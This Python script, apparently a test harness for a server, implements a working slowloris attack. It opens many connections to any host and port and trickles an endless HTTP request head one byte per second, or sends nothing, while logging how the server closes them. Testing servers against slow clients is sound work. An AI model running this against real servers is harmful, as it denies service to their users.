"""Slow clients, as a process of its own: `python slowloris.py HOST PORT COUNT drip|silent`.

Each connection sends one byte of an endless request head a second, or nothing at all. Twice a second a JSON line says how
many are open, how long those lived that were closed, and how their servers said goodbye. Nothing of ours is imported here.
"""

from __future__ import annotations

import asyncio
import json
import resource
import sys
from collections import Counter
from itertools import count

BATCH = 100
"""Connections that are made at a time."""
REQUEST = b"GET / HTTP/1.1\r\nhost: a.test\r\nx-slow: "


class Slow(asyncio.Protocol):
    """One connection."""

    def __init__(self, crowd: Crowd, drips: bool) -> None:
        self._crowd = crowd
        self._drips = drips
        self._loop = asyncio.get_running_loop()
        self._said = b""
        self._timer: asyncio.TimerHandle | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        self._began = self._loop.time()
        self._crowd.open += 1
        self._bytes = count()
        if self._drips:
            self._drip()

    def _drip(self) -> None:
        number = next(self._bytes)
        self._transport.write(REQUEST[number : number + 1] or b"a")
        self._timer = self._loop.call_later(1.0, self._drip)

    def data_received(self, data: bytes) -> None:
        self._said += data[:100]

    def connection_lost(self, exc: Exception | None) -> None:
        if self._timer is not None:
            self._timer.cancel()
        self._crowd.open -= 1
        self._crowd.lived.append(round(self._loop.time() - self._began, 2))
        goodbye = self._said.partition(b"\r\n")[0].decode("latin-1") or ("reset" if exc else "closed")
        self._crowd.goodbyes[goodbye] += 1


class Crowd:
    """All of them."""

    def __init__(self) -> None:
        self.open = 0
        self.failed = 0
        self.lived: list[float] = []
        self.goodbyes: Counter[str] = Counter()

    def told(self) -> str:
        lived = sorted(self.lived)
        return json.dumps(
            {
                "open": self.open,
                "failed": self.failed,
                "closed": len(lived),
                "shortest": lived[0] if lived else None,
                "longest": lived[-1] if lived else None,
                "goodbyes": self.goodbyes,
            }
        )


async def main(host: str, port: int, number: int, kind: str) -> None:
    loop = asyncio.get_running_loop()
    crowd = Crowd()
    for begun in range(0, number, BATCH):
        made = await asyncio.gather(
            *(
                asyncio.wait_for(loop.create_connection(lambda: Slow(crowd, kind == "drip"), host, port), 10)
                for _ in range(min(BATCH, number - begun))
            ),
            return_exceptions=True,
        )
        crowd.failed += sum(isinstance(one, BaseException) for one in made)
    while True:
        sys.stdout.write(crowd.told() + "\n")
        sys.stdout.flush()
        turn = loop.create_future()
        loop.call_later(0.5, turn.set_result, None)
        await turn


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]))
